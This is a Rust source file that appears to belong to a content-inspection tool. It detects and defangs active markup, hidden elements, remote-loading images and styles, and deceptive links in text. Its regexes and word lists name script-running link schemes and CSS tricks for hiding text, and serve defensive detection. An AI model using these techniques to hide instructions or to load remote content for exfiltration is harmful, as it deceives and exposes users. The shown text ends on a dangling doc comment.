//! Finds markup that loads, runs or hides something, and deceptive links (control C12; vectors PV-37 to PV-39).
//!
//! A scan over the bytes determines which patterns could match at all; only those are tried.

use std::borrow::Cow;
use std::cmp::Reverse;
use std::collections::BTreeSet;
use std::ops::Range;

use aho_corasick::AhoCorasick;
use memchr::{memchr_iter, memmem};
use policy_core::base::compiled::Compiled;
use policy_core::base::work::{EACH_FOUND, WorkBudget};
use policy_core::subject::pattern::Pattern;
use regex::Regex;

use super::attributes::{self, Attribute};
use super::host;
use crate::inspect::rendered::RenderedText;

/// Longest text that is read as one address, in bytes.
const WHOLE_LINK: usize = 2048;
/// Longest authority of a URL that is read, in bytes.
const AUTHORITY: usize = 300;
/// Units that a byte costs where attributes are read, and where a value is compared.
const ATTRIBUTES: usize = 2;

/// The way in which active markup is defused.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Defusal {
    /// Its `<` is escaped, so that the tag is shown as text.
    Tag,
    /// The image becomes a link that is not clickable.
    Image,
    /// Its colons and `@` become blanks, so that no scheme is left.
    Scheme,
    /// The link becomes `hxxps://host[.]example`.
    Link,
}

/// What was found in a text.
#[derive(Debug)]
pub(super) struct FoundMarkup {
    /// The matches, in order.
    pub(super) matches: Vec<MarkupMatch>,
    /// The text as it is read, where it is read in another way than it stands.
    rendered: Option<RenderedText>,
}

/// A range of a text that is active markup or a suspicious link.
#[derive(Clone, Debug)]
pub(super) struct MarkupMatch {
    pub(super) from: usize,
    pub(super) end: usize,
    pub(super) note: &'static str,
    /// Whether it is a link that is deceptive or leads to a host that is not permitted.
    pub(super) is_link: bool,
    fix: Defusal,
    /// The range of the text as it is read, if it is read in another way than it stands.
    rendered: Option<Range<usize>>,
}

const FAR_IMAGE: &str = "has an image that is loaded from elsewhere";
const FAR_ELEMENT: &str = "has an element that loads something from elsewhere";

/// The sign that must occur in a text for a pattern to be tried.
#[derive(Clone, Copy, PartialEq, Eq)]
enum MarkupTrigger {
    /// A `<` and a letter, `/` or `!`.
    Tag,
    /// One of the words in [`WORDS`].
    Word,
}

/// Words that make a reader run or load content.
const WORDS: [&str; 15] = [
    "javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html",
    "data:image/svg",
    "data:text/xml",
    "data:application/x",
    "command:",
    "vscode",
    "cursor:",
    "ms-",
    "search-ms:",
    "file:",
    "[//]:",
    "@import",
];

#[rustfmt::skip]
const SPECS: [(MarkupTrigger, Defusal, &str, &str); 13] = [
    (MarkupTrigger::Tag, Defusal::Tag, "has a comment that is not shown", r"(?s)<!--.*?(?:-->|\z)"),
    (MarkupTrigger::Tag, Defusal::Tag, "has an element that runs or loads something",
        r"(?is)<(?:script|style|iframe|object|svg|math|template|noscript)\b.*?</(?:script|style|iframe|object|svg|math|template|noscript)\s*>"),
    (MarkupTrigger::Tag, Defusal::Tag, "has an element that runs or loads something",
        r"(?i)</?(?:script|style|iframe|frame|frameset|object|embed|applet|link|svg|math|form|base|portal|foreignobject)\b[^<>]*>?"),
    (MarkupTrigger::Tag, Defusal::Tag, "has an element that loads something from elsewhere",
        r#"(?i)<(?:img|image|feimage|video|audio|source|track|input|body|table|td|th|use|picture)\b[^<>]*[\s"'/](?:src|srcset|background|poster|href|xlink:href)\s*=\s*["']?\s*(?:https?:[/\\]*|[/\\]{2,})[^<>]*>?|<a\b[^<>]*[\s"'/]ping\s*=[^<>]*>?"#),
    (MarkupTrigger::Tag, Defusal::Tag, "has an element that leads elsewhere by itself", r"(?i)<meta\b[^<>]*\bhttp-equiv\b[^<>]*>?"),
    (MarkupTrigger::Tag, Defusal::Tag, "has an element that runs something",
        r#"(?i)<[a-z][^<>]*[\s/"']on[a-z]{3,20}\s*=[^<>]*>?"#),
    (MarkupTrigger::Tag, Defusal::Tag, "has a style that loads something",
        r"(?i)<[a-z][^<>]*\bstyle\s*=[^<>]*\b(?:url|image-set)\s*\([^<>]*>?"),
    (MarkupTrigger::Tag, Defusal::Tag, "has an element that is not shown",
        r#"(?i)<[a-z][^<>]*\bstyle\s*=[^<>]*(?:display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0|opacity\s*:\s*0*(?:\.0|0(?:[;"'%\s]|\z))|(?:left|top|right|bottom|text-indent)\s*:\s*-\d{4}|["';\s]color\s*:\s*transparent|scale\(\s*0\s*[,)]|clip\s*:\s*rect\(\s*0|clip-path\s*:\s*inset\(\s*(?:50|100)%)[^<>]*>?"#),
    (MarkupTrigger::Tag, Defusal::Tag, "has an element that is not shown",
        r#"(?i)<[a-z][\w:-]*(?:[\s/]+[^\s"'<>/=]+(?:\s*=\s*(?:"[^"<]*"|'[^'<]*'|[^\s"'<>]+))?)*?[\s/]+hidden(?:\s*=\s*["'\w][^<>]*>?|[\s/][^<>]*>?|>|\z)"#),
    (MarkupTrigger::Tag, Defusal::Tag, "has a comment that is not shown", r"<(?:![^->][^>]*\s[^>]*\s[^>]*|!\s[^>]*|\?[^>]*|/\s[^>]*|/[^a-zA-Z>/*\s][^>]*\s[^>\s][^>]*)>"),
    (MarkupTrigger::Word, Defusal::Scheme, "has a link that runs something",
        r#"(?i)\b(?:javascript|vbscript|livescript):|\bdata:(?:text/html|text/xml|image/svg|application/x)|(?:\]\(\s*<?|\b(?:href|src)\s*=\s*["']?\s*)(?:command|vscode[\w-]*|cursor|ms-[\w-]+|search-ms|file):"#),
    (MarkupTrigger::Word, Defusal::Scheme, "has a comment that is not shown", r"(?m)^\s*\[//\]:[^\n]*"),
    (MarkupTrigger::Word, Defusal::Scheme, "has a style that loads something", r#"(?i)@import\s+(?:url\()?\s*["']?(?:https?:)?//[^;\s]*"#),
];

/// Functions of a style that load what they name, and those that do so only of another host.
const STYLE_LOADS: &str = r#"(?i)\b(?:url|image-set)\s*\(|\b(?:image|src|cross-fade)\s*\(\s*["']?\s*(?:https?:|[/\\]{2})"#;
/// Declarations of a style with which nothing is shown.
const STYLE_HIDES: &str = r#"(?ix)
    display\s*:\s*none | visibility\s*:\s*hidden | font(?:-size)?\s*:\s*0
    | opacity\s*:\s*(?:-|calc\(\s*0\s*\)|\+?0*\.?0*(?:e\d+)?%?\s*(?:[;!]|$))
    | (?:left|top|right|bottom|text-indent)\s*:\s*-(?:\d{4}|\d{3}\s*(?:r?em|v[wh]|%))
    | (?:^|[;\s])color\s*:\s*(?:transparent|\#[0-9a-f]{3}0(?:[;\s!]|$)|\#[0-9a-f]{6}00(?:[;\s!]|$)
        |(?:rgb|hsl)a?\((?:[^,)]*,[^,)]*,[^,)]*,|[^)]*/)\s*0*\.?0*%?\s*\))
    | scale\(\s*0\s*[,)] | (?:^|[;\s])(?:scale|zoom)\s*:\s*0*\.?0*%?\s*(?:[;!]|$)
    | translate[xy]?\s*[:(]\s*-\d{4} | opacity\(\s*0*\.?0*%?\s*\)
    | clip\s*:\s*rect\(\s*0 | clip-path\s*:\s*inset\(\s*(?:50|100)%"#;

struct MarkupPatterns {
    words: AhoCorasick,
    style_loads: Regex,
    style_hides: Regex,
    patterns: Vec<(MarkupTrigger, Defusal, &'static str, Regex)>,
    mismatch: Regex,
}

static COMPILED: Compiled<MarkupPatterns> = Compiled::new(|| {
    let words = AhoCorasick::builder().ascii_case_insensitive(true).build(WORDS)?;
    let build = |(sign, fix, note, pattern): &(MarkupTrigger, Defusal, &'static str, &str)| {
        Ok::<_, regex::Error>((*sign, *fix, *note, Regex::new(pattern)?))
    };
    let patterns = SPECS.iter().map(build).collect::<Result<_, _>>()?;
    let mismatch = Regex::new(
        r#"(?i)\[\s*https?://([^\]\s/]+)[^\]\n]*\]\(\s*<?(https?://([^)\s>/]+)[^)\s>]*)|<a\b[^<>]*\bhref\s*=\s*["']?(https?://([^"'\s<>/]+)[^"'\s<>]*)[^<>]*>\s*https?://([^\s<>/]+)"#,
    );
    let (style_loads, style_hides) = (Regex::new(STYLE_LOADS)?, Regex::new(STYLE_HIDES)?);
    Ok(MarkupPatterns { words, style_loads, style_hides, patterns, mismatch: mismatch? })
});

/// All active markup and suspicious links in a text, as it stands and as it is read. `hosts` are those that links may lead
/// to; empty: all. The search ends when `budget` is exhausted.
pub(super) fn find(text: &str, hosts: &[Pattern], budget: &WorkBudget) -> FoundMarkup {
    let mut matches = Vec::new();
    search(text, hosts, budget, &mut matches);
    let rendered = RenderedText::of(text).filter(|_| budget.spend(text.len()));
    if let Some(rendered) = &rendered {
        let from = matches.len();
        search(rendered.as_str(), hosts, budget, &mut matches);
        for one in matches.iter_mut().skip(from) {
            let range = one.from..one.end;
            Range { start: one.from, end: one.end } = rendered.source(range.clone());
            // What is read in another way is shorter.
            one.rendered = (range.len() < one.end - one.from).then_some(range);
        }
    }
    // Of two matches of one range, the one that is read there comes first: it is what has to be defused.
    matches.sort_by_key(|one| (one.from, Reverse(one.end), one.rendered.is_none()));
    let mut last = [0; 2];
    matches.retain(|one| {
        let end = last.get_mut(usize::from(one.is_link));
        let inside = end.as_ref().is_some_and(|end| one.end <= **end);
        end.into_iter().for_each(|end| *end = one.end.max(*end));
        !inside
    });
    FoundMarkup { matches, rendered }
}

/// Appends the active markup and the suspicious links of a text.
fn search(text: &str, hosts: &[Pattern], budget: &WorkBudget, found: &mut Vec<MarkupMatch>) {
    let (Some(compiled), bytes) = (COMPILED.get(), text.as_bytes()) else { return };
    let next = |at: usize| bytes.get(at + 1).copied().unwrap_or_default();
    let is_tag =
        |at: usize| next(at).is_ascii_alphabetic() || matches!(next(at), b'/' | b'!' | b'?');
    let tag = memchr_iter(b'<', bytes).any(is_tag);
    let word = signs_of_words(bytes, tag) && compiled.words.is_match(bytes);
    for (sign, fix, note, pattern) in &compiled.patterns {
        let could = match sign {
            MarkupTrigger::Tag => tag,
            MarkupTrigger::Word => word,
        };
        if !could {
            continue;
        }
        if !budget.spend(text.len()) {
            return;
        }
        for one in pattern.find_iter(text) {
            if is_declaration(one.as_str()) {
                continue;
            }
            if !budget.spend(EACH_FOUND) {
                return;
            }
            found.push(MarkupMatch::new(one.range(), note, *fix));
        }
    }
    if has_pair(bytes, *b"![") && budget.spend(text.len()) {
        for image in far_images(text) {
            if !budget.spend(EACH_FOUND) {
                return;
            }
            found.push(MarkupMatch::new(image, FAR_IMAGE, Defusal::Image));
        }
    }
    if tag && budget.spend(text.len().saturating_mul(ATTRIBUTES)) {
        attributes(text, compiled, hosts, budget, found);
    }
    links(text, hosts, budget, found);
    if (has_pair(bytes, *b"](") || tag) && budget.spend(text.len()) {
        mismatches(&compiled.mismatch, text, budget, found);
    }
}

impl MarkupMatch {
    const fn new(range: Range<usize>, note: &'static str, fix: Defusal) -> Self {
        let is_link = matches!(fix, Defusal::Link);
        Self { from: range.start, end: range.end, note, is_link, fix, rendered: None }
    }
}

/// Appends what attributes of elements run, load and hide, and the links in them.
fn attributes(
    text: &str,
    compiled: &MarkupPatterns,
    hosts: &[Pattern],
    budget: &WorkBudget,
    found: &mut Vec<MarkupMatch>,
) {
    attributes::find(text, &mut |one| {
        let part = |range: &Range<usize>| text.get(range.clone()).unwrap_or_default();
        let (name, value) = (part(&one.name), part(&one.value));
        let name = if name.len() > LONGEST_ATTRIBUTE { Cow::Borrowed("") } else { lower(name) };
        if let Some(note) = active(&one, &name, value, compiled, budget) {
            let element = one.element..one.end.min(text.len());
            found.push(MarkupMatch::new(element, note, Defusal::Tag));
        }
        if LINKING.contains(&&*name)
            && let Some(note) = link_note(value, hosts)
        {
            found.push(MarkupMatch::new(one.value, note, Defusal::Link));
        }
        budget.spend(EACH_FOUND)
    });
}

/// Longest name of an attribute that does something, in bytes.
const LONGEST_ATTRIBUTE: usize = 32;
/// Attributes with the address of what a person opens, or an element loads.
const LINKING: [&str; 11] = [
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "background",
    "cite",
    "data",
    "longdesc",
    "xlink:href",
    "manifest",
];

fn lower(name: &str) -> Cow<'_, str> {
    match name.bytes().any(|byte| byte.is_ascii_uppercase()) {
        true => Cow::Owned(name.to_ascii_lowercase()),
        false => Cow::Borrowed(name),
    }
}

/// What an attribute does as soon as its element is shown; `None` for nothing.
fn active(
    one: &Attribute,
    name: &str,
    value: &str,
    compiled: &MarkupPatterns,
    budget: &WorkBudget,
) -> Option<&'static str> {
    let is_event = || {
        let event = name.strip_prefix("on").filter(|event| (3..=20).contains(&event.len()));
        event.is_some_and(|event| event.bytes().all(|byte| byte.is_ascii_lowercase()))
    };
    match name {
        "src" | "background" | "poster" | "href" | "xlink:href" if one.loads => {
            is_far(value).then_some(FAR_ELEMENT)
        }
        "srcset" | "imagesrcset" => {
            // Commas and blanks separate what may be loaded; a comma can also be part of it.
            let mut candidates = value.split([',', ' ', '\t', '\n', '\r', '\u{c}']);
            candidates.any(is_far).then_some(FAR_ELEMENT)
        }
        "ping" => Some(FAR_ELEMENT).filter(|_| !value.is_empty()),
        "hidden" => (!value.starts_with('{')).then_some("has an element that is not shown"),
        "style" if budget.spend(value.len().saturating_mul(ATTRIBUTES)) => {
            let style = without_comments(value);
            if compiled.style_loads.is_match(&style) {
                return Some("has a style that loads something");
            }
            compiled.style_hides.is_match(&style).then_some("has an element that is not shown")
        }
        _ if is_event() => Some("has an element that runs something").filter(|_| !value.is_empty()),
        _ => None,
    }
}

/// A style without its comments (CSS Syntax, section 4.3.2).
fn without_comments(style: &str) -> Cow<'_, str> {
    if !style.contains("/*") {
        return Cow::Borrowed(style);
    }
    let (mut out, mut rest) = (String::with_capacity(style.len()), style);
    while let Some((before, comment)) = rest.split_once("/*") {
        out.push_str(before);
        rest = comment.split_once("*/").map_or("", |(_, behind)| behind);
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// What is wrong with the link that is the whole of `target`, as a browser reads it (WHATWG URL, section 4.4); `None` if it
/// leads to no other host, or nothing is.
fn link_note(target: &str, hosts: &[Pattern]) -> Option<&'static str> {
    let target = target.trim_start_matches(|c: char| c <= ' ');
    if !is_far(target) {
        return None;
    }
    let scheme = target.bytes().take_while(u8::is_ascii_alphabetic).count();
    let behind = target.get(scheme..).unwrap_or_default();
    let behind = behind.strip_prefix(':').unwrap_or(behind).trim_start_matches(['/', '\\']);
    host::note(exact_authority(behind), hosts)
}

/// The authority at the start of a text that is the rest of a URL.
fn exact_authority(text: &str) -> &str {
    let most = text.get(..text.floor_char_boundary(AUTHORITY)).unwrap_or(text);
    let end = most.find(['/', '\\', '?', '#']).unwrap_or(most.len());
    most.get(..end).unwrap_or_default().trim_end()
}

/// Whether this is a declaration or an instruction that documents and programs have: a reader of HTML takes everything else
/// that begins with `<!` or `<?` for a comment.
fn is_declaration(text: &str) -> bool {
    const KNOWN: [&str; 11] = [
        "<!doctype",
        "<![cdata[",
        "<!element",
        "<!entity",
        "<!attlist",
        "<!notation",
        "<?xml version",
        "<?xml-stylesheet",
        "<?php",
        "<?=",
        "<?hh",
    ];
    let begins = |known: &str| {
        text.get(..known.len()).is_some_and(|start| start.eq_ignore_ascii_case(known))
    };
    match text.as_bytes().get(1) {
        Some(b'!') => KNOWN.into_iter().any(begins),
        Some(b'?') => KNOWN.into_iter().any(begins) || is_wildcard(text),
        _ => false,
    }
}

/// Whether these are arguments of a type in Java, the first of which is unknown: `<?>`, `<? extends T, V>`.
fn is_wildcard(text: &str) -> bool {
    let arguments = text.trim_start_matches('<').trim_end_matches('>');
    arguments.split(',').all(|argument| {
        let mut words = argument.split_whitespace();
        matches!(
            (words.next(), words.next(), words.next(), words.next()),
            (Some(_), None, ..) | (Some("?"), Some("extends" | "super"), Some(_), None)
        )
    })
}

/// Whether a text could contain one of [`WORDS`]: all have a colon behind a letter or `]`, or an `@`.
fn signs_of_words(bytes: &[u8], has_tags: bool) -> bool {
    let link = has_tags || has_pair(bytes, *b"](");
    let begins = [&b"script"[..], b"data", b"[//]"];
    memchr::memchr2_iter(b':', b'@', bytes).any(|at| match bytes.get(at) {
        Some(b'@') => bytes.get(at + 1).is_some_and(|next| next.eq_ignore_ascii_case(&b'i')),
        _ => link || begins.iter().any(|word| ends_with(bytes, at, word)),
    })
}

/// Whether these two bytes stand side by side. To build a searcher for so few costs more than most texts do.
fn has_pair(bytes: &[u8], [first, second]: [u8; 2]) -> bool {
    memchr_iter(first, bytes).any(|at| bytes.get(at + 1) == Some(&second))
}

/// Whether a word ends at a place, ignoring case.
fn ends_with(bytes: &[u8], at: usize, word: &[u8]) -> bool {
    let start = at.checked_sub(word.len());
    start.and_then(|start| bytes.get(start..at)).is_some_and(|w| w.eq_ignore_ascii_case(word))
}

/// The images of Markdown that are loaded from elsewhere. What an image shows may have brackets in it (CommonMark, sections
/// 6.3 and 6.4), and code with a bracket that counts for nothing: so an image is also what one of the two would be.
fn far_images(text: &str) -> Vec<Range<usize>> {
    let (bytes, labels) = (text.as_bytes(), far_labels(text));
    let is_image =
        |from: &usize| from.checked_sub(1).and_then(|before| bytes.get(before)) == Some(&b'!');
    let (mut found, mut done, mut escaped) = (Vec::new(), 0, None);
    // The brackets that are open, and whether an image with no bracket in it ends at the next one.
    let (mut open, mut recent) = (Vec::new(), None);
    for at in memchr::memchr3_iter(b'[', b']', b'\\', bytes) {
        if at < done || escaped == Some(at) {
            continue;
        }
        match bytes.get(at) {
            Some(b'\\') => {
                escaped = Some(at + 1);
                continue;
            }
            Some(b'[') => {
                open.push(at);
                recent = Some(at).filter(is_image).or(recent);
                continue;
            }
            _ => {}
        }
        let (first, inner) = (recent.take(), open.pop());
        let Some(from) = inner.filter(is_image).or(first) else { continue };
        let behind = text.get(at + 1..).unwrap_or_default();
        let end = match behind.as_bytes().first() {
            Some(b'(') => behind
                .get(1..)
                .filter(|target| is_far(target))
                .map(|_| behind.find([')', '\n']).map_or(behind.len(), |end| end + 1)),
            // By reference, if its definition leads there.
            Some(b'[') if labels.is_empty() => None,
            Some(b'[') => behind.find(']').map(|end| end + 1),
            _ => {
                let label =
                    text.get(from + 1..at).filter(|_| first.is_some() && !labels.is_empty());
                let is_known = label.is_some_and(|label| labels.contains(&label_of(label)));
                if !is_known {
                    // The bracket may count for nothing.
                    open.push(from);
                }
                is_known.then_some(0)
            }
        };
        if let Some(end) = end {
            done = at + 1 + end;
            found.push(from - 1..done);
        }
    }
    found
}

/// Whether a target leads to another host: an address with `http:` or with two slashes in front.
fn is_far(target: &str) -> bool {
    let blanks = |c: char| c <= ' ';
    let target = target.trim_start_matches(blanks);
    let target =
        target.strip_prefix('<').map_or(target, |target| target.trim_start_matches(blanks));
    let target = target.as_bytes();
    let slashes = target.iter().take(2).filter(|byte| matches!(byte, b'/' | b'\\')).count();
    let begins = |scheme: &[u8]| {
        target.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
    };
    slashes == 2 || begins(b"http:") || begins(b"https:")
}

/// Where the first target that leads to another host begins, less `](`.
fn far_target(text: &str) -> Option<usize> {
    let mut targets = text.match_indices("](");
    targets.find(|(at, _)| text.get(at + 2..).is_some_and(is_far)).map(|(at, _)| at)
}

/// The labels of link references that lead to another host.
fn far_labels(text: &str) -> BTreeSet<String> {
    let (mut found, mut begins) = (BTreeSet::new(), None);
    for at in memchr::memchr2_iter(b'[', b']', text.as_bytes()) {
        if text.as_bytes().get(at) == Some(&b'[') {
            begins = Some(at + 1);
            continue;
        }
        let behind = text.get(at + 1..).and_then(|behind| behind.strip_prefix(':'));
        if let Some(label) = begins.take().and_then(|from| text.get(from..at))
            && behind.is_some_and(is_far)
        {
            found.insert(label_of(label));
        }
    }
    found
}

/// A label as it is compared (CommonMark, section 6.3).
fn label_of(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ").to_lowercase()
}

/// A link that is shown and cannot be followed: `hxxps://host[.]example/path`.
fn dead(text: &str) -> String {
    let (scheme, rest) = match text.split_once(':') {
        Some((scheme, rest)) if scheme.bytes().all(|b| b.is_ascii_alphanumeric()) => (scheme, rest),
        _ => ("http", text),
    };
    let scheme = match &*scheme.to_ascii_lowercase() {
        "https" => "hxxps",
        "ftp" => "fxp",
        "ws" => "wxs",
        "wss" => "wxss",
        "sftp" => "sfxp",
        "ssh" => "sxh",
        "smb" => "sxb",
        "git" => "gxt",
        "file" => "fxle",
        _ => "hxxp",
    };
    let rest = rest.trim_start_matches(['/', '\\']);
    let end = rest.find(['/', '?', '#', ')']).unwrap_or(rest.len());
    let (host, path) = rest.split_at_checked(end).unwrap_or((rest, ""));
    format!("{scheme}://{}{path}", host.replace('.', "[.]"))
}

impl FoundMarkup {
    /// The text of a match, defused.
    pub(super) fn defanged(&self, one: &MarkupMatch, text: &str) -> String {
        let rendered = self.rendered.as_ref().zip(one.rendered.clone());
        let read = rendered.and_then(|(rendered, range)| rendered.as_str().get(range));
        defanged(one.fix, read.unwrap_or(text))
    }
}

fn defanged(fix: Defusal, text: &str) -> String {
    match fix {
        Defusal::Tag => text.replace('<', "&lt;"),
        Defusal::Image => match far_target(text) {
            Some(at) => {
                let (shown, target) = text.split_at_checked(at + 2).unwrap_or((text, ""));
                format!("{}{}", shown.trim_start_matches('!'), dead(target))
            }
            None => text.trim_start_matches('!').to_owned(),
        },
        Defusal::Scheme => text.replace([':', '@'], " "),
        Defusal::Link => dead(text),
    }
}

/// Appends the links that are deceptive or lead to a host that is not permitted.
fn links(text: &str, hosts: &[Pattern], budget: &WorkBudget, found: &mut Vec<MarkupMatch>) {
    let (bytes, known) = (text.as_bytes(), found.len());
    let signs = memchr::memchr3_iter(b':', b'/', b'\\', bytes);
    let signs = signs.filter_map(|at| begins(bytes, at));
    // An address without a scheme, of which GitHub and others make a link.
    let is_alone = |at: &usize| {
        let before = at.checked_sub(1).and_then(|before| bytes.get(before));
        before.is_none_or(|byte| byte.is_ascii_whitespace() || b"*_~(<\"'".contains(byte))
    };
    let bare = memmem::find_iter(bytes, b"www.").filter(is_alone).map(|at| (at, at));
    let mut each = |places: &mut dyn Iterator<Item = (usize, usize)>| {
        // The end of the last link, so that each byte of a path is scanned once.
        let mut ended = 0;
        for (from, start) in places {
            let authority = match Destination::before(bytes, from) {
                Some(destination) => destination.authority(text, start),
                None => authority(text, start),
            };
            if !budget.spend(AUTHORITY) {
                return;
            }
            let Some(note) = host::note(authority, hosts) else { continue };
            if !budget.spend(EACH_FOUND) {
                return;
            }
            let behind = start + authority.len();
            if ended < behind {
                let rest = text.get(behind..).unwrap_or_default();
                let path = rest.find(|c: char| c.is_whitespace() || "\"'<>)]}|\\`^".contains(c));
                ended = behind + path.unwrap_or(rest.len());
            }
            found.push(MarkupMatch::new(from..ended, note, Defusal::Link));
        }
    };
    each(&mut { signs });
    each(&mut { bare });
    if found.len() == known
        && budget.spend(text.len().min(WHOLE_LINK))
        && let Some(note) = whole_link(text, hosts)
    {
        found.push(MarkupMatch::new(0..text.len(), note, Defusal::Link));
    }
}

/// What is wrong with the link that is the whole text, as programs read it that take the text for an address: without what
/// stands around it, and without tabs and line ends (WHATWG URL, section 4.4). Such are the pictures of icons, and members
/// of structured results.
fn whole_link(text: &str, hosts: &[Pattern]) -> Option<&'static str> {
    let address = text.trim_matches(|c: char| c <= ' ');
    if text.len() > WHOLE_LINK || address.contains(' ') {
        return None;
    }
    link_note(&address.replace(['\t', '\n', '\r'], ""), hosts)
}

/// The start of the link at a place, and the start of its authority: a scheme that leads to a host and slashes of either kind
/// (browsers accept one for two, and none where a link leads), or two slashes where a link leads.
fn begins(bytes: &[u8], at: usize) -> Option<(usize, usize)> {
    /// The schemes that browsers follow without slashes too (WHATWG URL, section 4.2), and others.
    const SPECIAL: [&str; 5] = ["https", "http", "ftp", "wss", "ws"];
    const OTHERS: [&str; 5] = ["file", "sftp", "ssh", "smb", "git"];
    let behind = bytes.get(at + 1..)?;
    let slashes =
        || behind.iter().take(AUTHORITY).take_while(|b| matches!(b, b'/' | b'\\')).count();
    if bytes.get(at) == Some(&b':') {
        let before = bytes.get(at.saturating_sub(6)..at)?;
        let is_scheme = |scheme: &str| {
            let start = before.len().checked_sub(scheme.len());
            let same = start.and_then(|start| before.get(start..));
            let whole = start.is_some_and(|start| {
                start == 0 || before.get(start - 1).is_some_and(|b| !b.is_ascii_alphanumeric())
            });
            whole && same.is_some_and(|word| word.eq_ignore_ascii_case(scheme.as_bytes()))
        };
        if let Some(scheme) = SPECIAL.into_iter().find(|scheme| is_scheme(scheme)) {
            let (from, slashes) = (at - scheme.len(), slashes());
            // Not `http::header`, which is a name in a program.
            let is_link = || bytes.get(..from).is_some_and(|before| before.ends_with(b"<"));
            let leads = slashes > 0
                || behind.first() != Some(&b':') && (is_link() || is_behind(bytes, from, &LINKS));
            return leads.then_some((from, at + 1 + slashes));
        }
        let scheme = OTHERS.into_iter().find(|scheme| is_scheme(scheme))?;
        // The third slash of `file:///` begins a path, and so does the letter of a drive.
        let is_drive = scheme == "file" && matches!(behind.get(2..4), Some([_, b':' | b'|']));
        return (slashes() == 2 && !is_drive).then_some((at - scheme.len(), at + 3));
    }
    // Only the first of several slashes, so that they are counted once.
    let is_slash = |at: usize| matches!(bytes.get(at), Some(b'/' | b'\\'));
    if at.checked_sub(1).is_some_and(is_slash) || !is_slash(at + 1) {
        return None;
    }
    let slashes = slashes();
    // Exactly two behind a sign that has other meanings: a regular expression may have more.
    let leads = slashes == 1 && is_target(bytes, at)
        || is_behind(bytes, at, &LINKS) && !is_comment(bytes, at, at + 1 + slashes);
    leads.then_some((at, at + 1 + slashes))
}

/// Whether the slashes up to `end` begin a comment of a program: in a line of their own, and with no host behind them.
fn is_comment(bytes: &[u8], at: usize, end: usize) -> bool {
    let before = bytes.get(..at).unwrap_or_default();
    let blanks = before.get(before.trim_ascii_end().len()..).unwrap_or_default();
    let is_host = |byte: &u8| !byte.is_ascii_whitespace() && *byte != b'!';
    blanks.contains(&b'\n') && !bytes.get(end).is_some_and(is_host)
}

/// What stands in front of the address of a link, in front of blanks too. In a program, comments have none of it in front.
const LINKS: [&[u8]; 9] =
    [b"](", b"](<", b"]:", b"href=", b"href=\"", b"href='", b"src=", b"src=\"", b"src='"];

/// Whether two slashes at a place stand where a link leads: behind a parenthesis or in the value of an attribute.
fn is_target(bytes: &[u8], at: usize) -> bool {
    const SIGNS: [&[u8]; 6] = [b"(", b"(<", b"=\"", b"='", b"=", b"<"];
    let before = bytes.get(..at).unwrap_or_default();
    bytes.get(at) == Some(&b'/') && SIGNS.iter().any(|sign| before.ends_with(sign))
}

/// Whether one of these signs stands in front of a place, with or without blanks between.
fn is_behind(bytes: &[u8], at: usize, signs: &[&[u8]]) -> bool {
    let before = bytes.get(..at).unwrap_or_default().trim_ascii_end();
    signs.iter().any(|sign| before.ends_with(sign))
}

/// The target of a Markdown link (CommonMark, section 6.3). Nothing but its own end ends a host in it early.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Destination {
    /// In `<>`.
    Angles,
    /// Up to a blank, or to the parenthesis that none in it has opened.
    Plain,
}

impl Destination {
    /// The target that begins at a place; `None` if none does.
    fn before(bytes: &[u8], from: usize) -> Option<Self> {
        let before = bytes.get(..from)?.trim_ascii_end();
        let (before, destination) = match before.strip_suffix(b"<") {
            Some(before) => (before.trim_ascii_end(), Self::Angles),
            None => (before, Self::Plain),
        };
        (before.ends_with(b"](") || before.ends_with(b"]:")).then_some(destination)
    }

    /// The authority of the target, which begins at `start`.
    fn authority(self, text: &str, start: usize) -> &str {
        let behind = text.get(start..text.floor_char_boundary((start + AUTHORITY).min(text.len())));
        let behind = behind.unwrap_or_default();
        let stops = |c: char| c.is_whitespace() || c.is_control() || "/?#<>\\".contains(c);
        let most = behind.find(stops).map_or(behind, |end| behind.get(..end).unwrap_or_default());
        if self == Self::Angles {
            return most;
        }
        let mut open = 0_usize;
        let end = most.find(|c: char| {
            open += usize::from(c == '(');
            let is_end = c == ')' && open == 0;
            open = open.saturating_sub(usize::from(c == ')'));
            is_end
        });
        most.get(..end.unwrap_or(most.len())).unwrap_or_default()
    }
}

/// The authority that begins at a place. Before an `@`, a browser does not end it at the characters that end one in
/// running text.
fn authority(text: &str, start: usize) -> &str {
    let behind = text.get(start..text.floor_char_boundary((start + AUTHORITY).min(text.len())));
    let behind = behind.unwrap_or_default();
    let stops = |c: char| c.is_whitespace() || c.is_control() || "/?#\"<>\\".contains(c);
    let mut end = behind.find(stops).unwrap_or(behind.len());
    // A quotation mark ends it, but not before an `@`.
    let quoted = behind.get(end..).and_then(|rest| rest.strip_prefix('"'));
    if let Some(quoted) = quoted {
        let rest = quoted.find(stops).unwrap_or(quoted.len());
        let has_more = quoted.get(..rest).is_some_and(|rest| rest.contains('@'));
        end += if has_more { 1 + rest } else { 0 };
    }
    let most = behind.get(..end).unwrap_or_default();
    if most.contains('@') {
        return most.trim_end_matches([')', ']', '\'', '`', ',', ';', '.', '}', '|', '^']);
    }
    // An IPv6 address stands in brackets.
    let inside = if most.starts_with('[') { most.find(']').map_or(0, |at| at + 1) } else { 0 };
    let rest = most.get(inside..).unwrap_or_default();
    let delimits = |c: char| "'()[]{}|`^,;".contains(c);
    let end = rest.find(delimits).unwrap_or(rest.len());
    // A browser takes most of these for a part of the host, and so does who makes links of running text.
    let more = rest.get(end..).unwrap_or_default().trim_start_matches(delimits);
    if goes_on_as_host(more) {
        return most;
    }
    most.get(..inside + end).unwrap_or_default()
}

/// Whether a text is the end of a host with a dot in it, perhaps with a port: not a call in a program, or a list.
fn goes_on_as_host(more: &str) -> bool {
    let is_port = |port: &str| port.bytes().all(|byte| byte.is_ascii_digit());
    let host =
        more.rsplit_once(':').filter(|(_, port)| is_port(port)).map_or(more, |(host, _)| host);
    let last = host.rsplit_once('.').map(|(_, last)| last);
    let is_top =
        |last: &str| last.len() >= 2 && last.bytes().all(|byte| byte.is_ascii_alphabetic());
    !host.contains(['(', ':']) && last.is_some_and(is_top)
}

/// Appends links whose text shows another host than their target.
